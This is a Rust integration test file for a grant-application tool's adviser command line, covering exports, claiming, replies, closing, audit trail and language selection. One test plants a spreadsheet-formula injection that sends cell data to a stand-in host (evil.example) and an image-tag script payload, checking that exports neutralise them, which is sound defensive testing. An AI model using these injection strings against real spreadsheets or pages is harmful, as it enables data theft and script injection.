//! A whole draft application through the console binary, then the adviser's command line
//! over the same data directory: list, show, export (md, json, csv), claim, reply, close —
//! and the applicant seeing the adviser's message at their next session.

mod common;

use common::APPLICATION;

use std::process::Command;

fn drafts(data: &std::path::Path, args: &[&str]) -> (Option<i32>, String, String) {
    drafts_with(data, args, &[])
}

/// `drafts …` with these environment variables (and without the tester's BARENTS_CLI_LANG).
fn drafts_with(data: &std::path::Path, args: &[&str], env: &[(&str, &str)]) -> (Option<i32>, String, String) {
    let o = Command::new(common::binary())
        .args(["--data-dir", data.to_str().unwrap(), "drafts"])
        .args(args)
        .current_dir(common::repo())
        .env_remove("BARENTS_CLI_LANG")
        .envs(env.iter().copied())
        .output()
        .unwrap();
    (o.status.code(), String::from_utf8_lossy(&o.stdout).into_owned(), String::from_utf8_lossy(&o.stderr).into_owned())
}

/// The status column of `drafts list`, one per draft.
fn statuses(list: &str) -> Vec<&str> {
    list.lines().map(|l| l.split('\t').nth(1).unwrap()).collect()
}

fn apply(data: &std::path::Path, lang: &str, confirm_text: &str) -> String {
    apply_with(data, lang, confirm_text, APPLICATION)
}

fn apply_with(data: &std::path::Path, lang: &str, confirm_text: &str, answers: &[&str]) -> String {
    let mut c = common::Console::start(data, &["console", "--user", lang, "--lang", lang]);
    c.wait_for("[3]");
    for a in answers {
        c.send(a);
    }
    c.wait_for(confirm_text);
    c.send("1");
    let done = c.wait_for("BS-");
    c.finish();
    done
}

#[test]
fn an_application_in_two_languages_reaches_the_advisers_command_line() {
    let data = tempfile::tempdir().unwrap();
    // An empty list says so, in the advisers' language, instead of printing nothing.
    assert_eq!(drafts(data.path(), &["list"]).1, "Ingen søknadsutkast ennå.\n");
    assert_eq!(drafts(data.path(), &["audit"]).1, "Ingenting registrert ennå.\n", "an empty audit says so");
    let en = apply(data.path(), "en", "[37] Change: Amount");
    assert!(en.contains("BS-") && en.contains("has been sent to an adviser for review"), "{en}");
    let ru = apply(data.path(), "ru", "[37]");
    assert!(ru.contains("BS-"), "{ru}");

    assert_eq!(drafts(data.path(), &["--lang", "en", "list", "--status", "closed"]).1, "No drafts with the status “closed”.\n");
    let (code, list, _) = drafts(data.path(), &["list"]);
    assert_eq!(code, Some(0));
    let ids: Vec<&str> = list.lines().map(|l| l.split('\t').next().unwrap()).collect();
    assert_eq!(ids.len(), 2, "{list}");
    assert!(ids[0].starts_with("BS-20") && ids[0].ends_with("-0001") && ids[1].ends_with("-0002"), "{list}");
    assert!(list.contains("console:en") && list.contains("Singing across the border"));

    // JSON carries every answer.
    let (code, json, _) = drafts(data.path(), &["export", ids[0], "--format", "json"]);
    assert_eq!(code, Some(0));
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    for slot in ["org_name", "org_number", "municipality", "applicant_region", "contact_name", "contact_email", "contact_phone", "partner_name",
        "partner_countries", "partner_region_se", "partner_contact", "project_title", "project_summary", "goals", "target_group", "activities",
        "roles", "topics", "costs", "partner_role", "started", "applicant_type", "registered", "start_date", "end_date", "cost_travel",
        "cost_accommodation", "cost_interpretation", "cost_fees", "cost_administration", "cost_other", "norwegian_costs", "volunteer_hours",
        "own_financing", "partner_financing", "amount_requested",
        // What the draft followed, as it was when it was sent.
        "scheme", "scheme_version", "scheme_status", "verdict", "funding_share", "share_base", "volunteer_rate"] {
        assert!(v["answers"].get(slot).is_some(), "{slot} missing from the export");
    }
    assert_eq!(v["answers"]["activities"]["value"].as_array().unwrap().len(), 2);
    assert_eq!(v["status"], "submitted");
    assert_eq!(v["locale"], "en");

    // Markdown reads as an application (advisers read Norwegian by default).
    let (_, md, _) = drafts(data.path(), &["export", ids[0], "--format", "md"]);
    let normalised: String = md.lines().map(|l| if l.starts_with("- **Sendt til rådgiverne:**") { "- **Sendt til rådgiverne:** <date>" } else { l }).collect::<Vec<_>>().join("\n") + "\n";
    let expected = std::fs::read_to_string(common::repo().join("tests/expected/application.md")).unwrap();
    assert_eq!(normalised, expected.replace("BS-2026-0001", ids[0]));

    // CSV: a header and one row per draft, quoted where needed.
    let (_, csv, _) = drafts(data.path(), &["export", "--all", "--format", "csv"]);
    let rows: Vec<&str> = csv.lines().collect();
    assert_eq!(rows.len(), 3, "{csv}");
    assert!(rows[0].starts_with("id,status,created,platform,language,") && rows[0].contains("amount_requested"));
    assert!(rows[1].contains("\"The Kirkenes choir plans the programme and hosts the concert in Kirkenes; the Luleå choir"), "{}", rows[1]);
    // A phone number is not a formula to a spreadsheet.
    assert!(rows[1].contains(",'+47 912 34 567,") && !rows[1].contains(",+47"), "{}", rows[1]);

    // Claim, reply, close; the applicant sees the reply and the news at their next session.
    assert_eq!(drafts(data.path(), &["claim", ids[0], "--adviser", "Ola"]).0, Some(0));
    assert_eq!(drafts(data.path(), &["reply", ids[0], "Could you tell us more about the workshops?", "--adviser", "Ola"]).0, Some(0));
    let mut c = common::Console::start(data.path(), &["console", "--user", "en", "--lang", "en"]);
    let seen = c.wait_for("Write your message to the adviser");
    assert!(seen.contains("Could you tell us more about the workshops?"), "{seen}");
    assert!(seen.contains("an adviser is looking at it"), "{seen}");
    // The question says the adviser follows the draft up: no second notice saying so.
    assert_eq!(seen.matches("News about your application").count(), 1, "{seen}");
    // /status only shows something: the message to the adviser is still being written after it.
    c.send("/status");
    let after = c.wait_for("Write your message to the adviser");
    assert!(after.contains("being followed up"), "{after}");
    // /help explains the message being written, and the message is still asked for after it.
    c.send("/help");
    let help = c.wait_for("Write your message to the adviser");
    assert!(help.contains("goes to the Secretariat's advisers just as you write it"), "{help}");
    assert!(!help.contains("/restart"), "not the general help: {help}");
    c.send("Three workshops, one in each town.");
    c.wait_for("your message has gone to the advisers");
    c.finish();
    let (_, shown, _) = drafts(data.path(), &["show", ids[0]]);
    assert!(shown.contains("Three workshops, one in each town."), "the answer reached the adviser: {shown}");
    assert_eq!(drafts(data.path(), &["close", ids[0]]).0, Some(0));
    let (_, list, _) = drafts(data.path(), &["list", "--status", "closed"]);
    assert_eq!(list.lines().count(), 1);
    // Closed is final: closing again, claiming or writing is refused, and the trail has one close.
    for again in [&["close", ids[0]][..], &["claim", ids[0], "--adviser", "Ola"], &["reply", ids[0], "One more thing?", "--adviser", "Ola"]] {
        let (code, _, err) = drafts(data.path(), again);
        assert_eq!(code, Some(1), "{again:?}");
        assert!(err.contains(&format!("{} er allerede avsluttet", ids[0])), "{again:?}: {err}");
    }

    // Every adviser action is in the audit trail: who, what, which draft, when — no message text.
    let (code, audit, _) = drafts(data.path(), &["audit", ids[0]]);
    assert_eq!(code, Some(0));
    let actions: Vec<(&str, &str)> = audit.lines().map(|l| l.split('\t').collect::<Vec<_>>()).map(|f| (f[2], f[3])).collect();
    assert_eq!(actions, [("tok saken", "Ola"), ("skrev til søkeren", "Ola"), ("avsluttet", "en rådgiver, på kommandolinjen")], "{audit}");
    assert!(audit.lines().all(|l| l.contains(" UTC\t") && l.contains(ids[0])), "{audit}");
    assert!(!audit.contains("workshops"), "no message bodies: {audit}");

    // Mistakes get clear answers and the right exit codes.
    let (code, _, err) = drafts(data.path(), &["show", "BS-2026-9999"]);
    assert_eq!(code, Some(1));
    assert_eq!(err, "barents-bot: det finnes ikke noe søknadsutkast BS-2026-9999\n");
    assert_eq!(drafts(data.path(), &["show", "banana"]).0, Some(1));
    assert_eq!(drafts(data.path(), &["export", ids[0], "--format", "csv"]).0, Some(2));
    assert_eq!(drafts(data.path(), &["frobnicate"]).0, Some(2));
}

/// An applicant who types spreadsheet formulas and Markdown cannot make an adviser's export
/// run or render them.
#[test]
fn what_applicants_type_is_inert_in_every_export() {
    let data = tempfile::tempdir().unwrap();
    let mut answers = APPLICATION.to_vec();
    answers[common::APP_ORG_NAME] = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Open\")";
    answers[common::APP_TITLE] = "<img src=x onerror=alert(1)> **Singing** [across](http://evil.example)";
    apply_with(data.path(), "en", "[37]", &answers);
    let (_, csv, _) = drafts(data.path(), &["export", "--all", "--format", "csv"]);
    let row = csv.lines().nth(1).unwrap();
    assert!(row.contains("\"'=HYPERLINK(\"\"http://evil.example"), "{row}");
    assert!(!row.contains(",=") && !row.contains(",\"=") && !row.contains(",@") && !row.contains(",+"), "{row}");
    let (_, list, _) = drafts(data.path(), &["list"]);
    let id = list.split('\t').next().unwrap();
    let (_, md, _) = drafts(data.path(), &["show", id]);
    assert!(md.contains("\\<img src=x onerror=alert(1)\\> \\*\\*Singing\\*\\* \\[across\\](http://evil.example)"), "{md}");
    assert!(!md.contains("<img") || md.contains("\\<img"), "{md}");
}

/// The command line speaks the advisers' language (Norwegian out of the box); an operator can
/// ask for another with `--lang` or BARENTS_CLI_LANG, and `--status` takes a status's name in
/// any of the three languages as well as its code.
#[test]
fn the_command_line_speaks_the_advisers_language_unless_the_operator_asks_for_another() {
    let data = tempfile::tempdir().unwrap();
    apply(data.path(), "en", "[37]");
    let (_, list, _) = drafts(data.path(), &["list"]);
    let id = list.split('\t').next().unwrap().to_owned();
    assert_eq!(statuses(&list), ["innsendt"], "{list}");

    let (code, out, _) = drafts(data.path(), &["claim", &id, "--adviser", "Ola"]);
    assert_eq!((code, out.as_str()), (Some(0), format!("Ola har tatt saken {id}\n").as_str()));
    assert_eq!(statuses(&drafts(data.path(), &["list"]).1), ["tildelt"]);
    // The flag before or after the subcommand; the environment; the flag over the environment.
    assert_eq!(statuses(&drafts(data.path(), &["--lang", "en", "list"]).1), ["claimed"]);
    assert_eq!(statuses(&drafts(data.path(), &["list", "--lang", "en"]).1), ["claimed"]);
    assert_eq!(statuses(&drafts_with(data.path(), &["list"], &[("BARENTS_CLI_LANG", "ru")]).1), ["в работе"]);
    assert_eq!(statuses(&drafts_with(data.path(), &["list", "--lang", "en"], &[("BARENTS_CLI_LANG", "ru")]).1), ["claimed"]);
    let (_, out, _) = drafts_with(data.path(), &["close", &id, "--adviser", "Ola"], &[("BARENTS_CLI_LANG", "ru")]);
    assert_eq!(out, format!("Черновик {id} закрыт\n"));
    let (_, out, _) = drafts(data.path(), &["audit", &id, "--lang", "en"]);
    let actions: Vec<&str> = out.lines().map(|l| l.split('\t').nth(2).unwrap()).collect();
    assert_eq!(actions, ["claim", "close"], "{out}");
    // The draft's history names each status in the language asked for.
    assert!(drafts(data.path(), &["show", &id]).1.contains(" tildelt (Ola)\n"));
    assert!(drafts(data.path(), &["show", &id, "--lang", "ru"]).1.contains(" в работе (Ola)\n"));

    // --status: the code, or the name in any language, whatever the command line speaks.
    for status in ["closed", "Avsluttet", "закрыт", "ЗАКРЫТ"] {
        let (code, out, err) = drafts(data.path(), &["list", "--status", status]);
        assert_eq!((code, out.lines().count()), (Some(0), 1), "{status}: {out}{err}");
    }
    for status in ["claimed", "tildelt", "в работе"] {
        let none = drafts(data.path(), &["list", "--status", status, "--lang", "en"]).1;
        assert_eq!(none, "No drafts with the status “claimed”.\n", "{status}: the draft is closed now");
    }
    let (code, _, err) = drafts(data.path(), &["list", "--status", "ferdig"]);
    assert_eq!(code, Some(2));
    assert!(err.contains("«ferdig» er ikke en status") && err.contains("innsendt, tildelt, følges opp, avsluttet"), "{err}");
    let (code, _, err) = drafts(data.path(), &["show", "BS-2026-9999", "--lang", "en"]);
    assert_eq!((code, err.as_str()), (Some(1), "barents-bot: there is no draft BS-2026-9999\n"));
}

/// A draft whose financing plan does not cover its costs reaches the advisers saying so, under
/// the amount applied for, as the applicant's summary did.
#[test]
fn an_export_says_when_the_financing_plan_does_not_cover_the_costs() {
    let data = tempfile::tempdir().unwrap();
    let mut answers = APPLICATION.to_vec();
    let own = answers.len() - 3;
    answers[own] = "1000";
    apply_with(data.path(), "en", "[37] Change: Amount", &answers);
    let id = drafts(data.path(), &["list"]).1.split('\t').next().unwrap().to_owned();
    let (_, md, _) = drafts(data.path(), &["show", &id]);
    let line = "**Finansieringsplanen dekker 125\u{a0}000\u{a0}kroner av kostnadene på 135\u{a0}000\u{a0}kroner, så det mangler 10\u{a0}000\u{a0}kroner.**";
    assert!(md.contains(&format!("(69\u{a0}% av kostnadene på norsk side)\n\n{line}\n")), "{md}");
}

/// An adviser asks and then closes the draft before the applicant is back: the applicant reads
/// both, and is not asked to answer a draft that takes no more answers.
#[test]
fn a_draft_closed_after_a_question_no_longer_asks_for_an_answer() {
    let data = tempfile::tempdir().unwrap();
    apply(data.path(), "en", "[37] Change: Amount");
    let id = drafts(data.path(), &["list"]).1.split('\t').next().unwrap().to_owned();
    assert_eq!(drafts(data.path(), &["reply", &id, "Which dates?", "--adviser", "Ola"]).0, Some(0));
    assert_eq!(drafts(data.path(), &["close", &id]).0, Some(0));
    let mut c = common::Console::start(data.path(), &["console", "--user", "en", "--lang", "en"]);
    let seen = c.wait_for("An adviser has closed your application");
    let seen = seen + &c.wait_for("[1]");
    c.finish();
    assert!(seen.contains("Which dates?") && seen.contains("An adviser has closed your application"), "{seen}");
    assert!(!seen.contains("Write your message to the adviser"), "{seen}");
}
